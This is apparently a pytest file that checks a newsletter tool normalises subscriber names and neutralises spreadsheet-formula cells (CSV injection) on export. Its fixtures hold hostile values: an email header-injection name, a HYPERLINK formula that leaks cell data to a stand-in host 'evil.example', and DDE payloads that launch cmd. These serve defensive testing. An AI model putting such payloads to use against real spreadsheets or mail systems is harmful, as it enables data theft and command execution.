"""Names are normalised wherever they come in (the CSV, `subscribers add`, the web form), and
`subscribers export` writes nothing a spreadsheet would run as a formula (OWASP "CSV injection").

Real components: the CSV and the export go through the `publisher` command in a subprocess and
are read back with the `csv` module; the web form is posted over real HTTP to the app under
uvicorn; the store is SQLite and PostgreSQL (`db_url`)."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import httpx
import pytest

from publisher.config import load_config
from publisher.state import NAME_MAX, Store, normalize_name
from publisher.state.schema import _now, subscribers
from publisher.subscribers import EXPORT_FIELDS
from publisher.web import create_app

from .pg import state_toml, with_database
from .smtp_server import smtp_server
from .webhelpers import SECRET, live_server, web_config

# What a hostile or careless source may put in a name, and what is stored.
HOSTILE_NAMES = [
    ("Ada\r\nBcc: victim@example.org", "Ada Bcc: victim@example.org"),
    ("Grace\nHopper", "Grace Hopper"),
    ("\tTabbed\tname\t", "Tabbed name"),
    ("Nul\x00 and bell\x07 and esc\x1b[31m", "Nul and bell and esc[31m"),
    ("Line\u2028separator\u2029para\x85nel", "Line separator para nel"),
    ("Right-to-left \u202eevil\u202c override", "Right-to-left evil override"),
    ("  many    spaces  ", "many spaces"),
    ("이름\u00a0있음", "이름 있음"),
    ("x" * 1000, "x" * NAME_MAX),
]


def run_cli(project: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """`publisher ARGS --config project/config.toml`; stdout decoded as is (a CR in a CSV cell
    must not be turned into a line break on the way)."""
    r = subprocess.run(
        [sys.executable, "-m", "publisher.cli", *args, "--config", str(project / "config.toml")],
        capture_output=True,
        timeout=120,
        env={**os.environ, "PYTHONIOENCODING": "utf-8"},
    )
    return subprocess.CompletedProcess(
        r.args, r.returncode, r.stdout.decode("utf-8"), r.stderr.decode("utf-8", "replace")
    )


@pytest.fixture
def project(tmp_path: Path, db_url: str) -> Path:
    (tmp_path / "config.toml").write_text('[subscribers]\nfile = "subs.csv"\n' + state_toml(db_url))
    return tmp_path


def stored_names(project: Path) -> dict[str, str]:
    with Store.open(load_config(project / "config.toml")) as store:
        return {s.email: s.name for s in store.iter_subscribers()}


@pytest.mark.parametrize(("raw", "clean"), HOSTILE_NAMES)
def test_normalize_name(raw: str, clean: str) -> None:
    assert normalize_name(raw) == clean
    assert normalize_name(clean) == clean  # idempotent


def test_names_from_the_csv_are_normalised(project: Path) -> None:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["email", "name"])
    for i, (raw, _) in enumerate(HOSTILE_NAMES):
        writer.writerow([f"reader{i}@example.com", raw])
    (project / "subs.csv").write_text(out.getvalue(), encoding="utf-8", newline="")
    r = run_cli(project, "subscribers", "import")
    assert r.returncode == 0, r.stderr
    names = stored_names(project)
    assert names == {f"reader{i}@example.com": clean for i, (_, clean) in enumerate(HOSTILE_NAMES)}


def test_names_from_the_command_line_are_normalised(project: Path) -> None:
    for i, (raw, _) in enumerate(HOSTILE_NAMES):
        if "\x00" in raw:
            continue  # a NUL cannot be passed in argv; the CSV and the form cover it
        r = run_cli(project, "subscribers", "add", f"cli{i}@example.com", "--name", raw)
        assert r.returncode == 0, r.stderr
    r = run_cli(
        project, "subscribers", "add", "back@example.com", "--resubscribe", "--name", "A\nB"
    )
    assert r.returncode == 0, r.stderr
    names = stored_names(project)
    expected = {
        f"cli{i}@example.com": clean
        for i, (raw, clean) in enumerate(HOSTILE_NAMES)
        if "\x00" not in raw
    }
    assert names == {**expected, "back@example.com": "A B"}


def test_names_from_the_web_form_are_normalised(tmp_path: Path, db_url: str) -> None:
    with smtp_server() as (inbox, port):
        stores: list[Store] = []

        def make_app(base: str):  # noqa: ANN202
            cfg = with_database(web_config(tmp_path, base, port), db_url)
            stores.append(Store.open(cfg))
            return create_app(cfg, secret=SECRET, store=stores[0])

        with live_server(make_app) as base, httpx.Client(timeout=30) as http:
            for i, (raw, _) in enumerate(HOSTILE_NAMES):
                r = http.post(
                    base + "subscribe", data={"email": f"web{i}@example.com", "name": raw}
                )
                assert r.status_code == 200, r.text
        try:
            for i, (_, clean) in enumerate(HOSTILE_NAMES):
                assert stores[0].get(f"web{i}@example.com").name == clean  # type: ignore[union-attr]
            # The confirmation mail went out to every one of them, and none carries the name.
            assert len(inbox.messages) == len(HOSTILE_NAMES)
        finally:
            stores[0].close()


# Cells a spreadsheet would run, as stored by an older release (names were not normalised then)
# or as valid addresses (RFC 5321 allows =, + and - to start a local part).
HOSTILE_CELLS = [
    ("a@example.com", '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'),
    ("b@example.com", "+1+cmd|' /C calc'!A0"),
    ("c@example.com", "-2+3"),
    ("d@example.com", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("e@example.com", "\t=1+1"),
    ("f@example.com", "\r=1+1"),
    ("=g@example.com", "Plain Name"),
    ("+h@example.com", "Plain Name"),
    ("-i@example.com", "-"),
]
SAFE_NAMES = ["Ada Lovelace", "에이다", "x=1", "", "'quoted already"]


def test_export_neutralises_formula_cells_and_reads_back(project: Path) -> None:
    cfg = load_config(project / "config.toml")
    with Store.open(cfg) as store, store.engine.begin() as conn:
        now = _now()
        rows = HOSTILE_CELLS + [(f"safe{i}@example.com", n) for i, n in enumerate(SAFE_NAMES)]
        for email, name in rows:
            # Written straight into the table, as an older release may have left them.
            conn.execute(
                subscribers.insert().values(
                    email=email, name=name, status="active", source="csv",
                    created_at=now, updated_at=now, hard_bounces=0,
                )
            )  # fmt: skip
    r = run_cli(project, "subscribers", "export")
    assert r.returncode == 0, r.stderr
    table = list(csv.reader(io.StringIO(r.stdout, newline="")))
    assert tuple(table[0]) == EXPORT_FIELDS
    cells = {row[0]: row[1] for row in table[1:]}
    for email, name in HOSTILE_CELLS:
        shown_email = "'" + email if email[0] in "=+-" else email
        # The leading apostrophe makes a spreadsheet show the cell as text, and it is visible,
        # so nobody mistakes the cell for the raw value.
        assert cells[shown_email] == ("'" + name if name[:1] in "=+-@\t\r" else name)
    assert cells["a@example.com"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
    assert cells["e@example.com"] == "'\t=1+1"
    assert cells["f@example.com"] == "'\r=1+1"
    for i, name in enumerate(SAFE_NAMES):
        assert cells[f"safe{i}@example.com"] == name  # untouched
    # No cell of the whole export starts with a formula character.
    for row in table[1:]:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), row

    # The export imports back: the neutralised addresses are the same subscribers.
    again = project / "again.csv"
    again.write_text(r.stdout, encoding="utf-8", newline="")
    other = project / "other"
    other.mkdir()
    (other / "config.toml").write_text(
        '[subscribers]\nfile = "../again.csv"\n' + state_toml(f"sqlite:///{other}/state.db")
    )
    r = run_cli(other, "subscribers", "import")
    assert r.returncode == 0, r.stdout + r.stderr
    with Store.open(load_config(other / "config.toml")) as store:
        emails = {s.email for s in store.iter_subscribers()}
    assert {"=g@example.com", "+h@example.com", "-i@example.com"} <= emails
    assert len(emails) == len(rows)
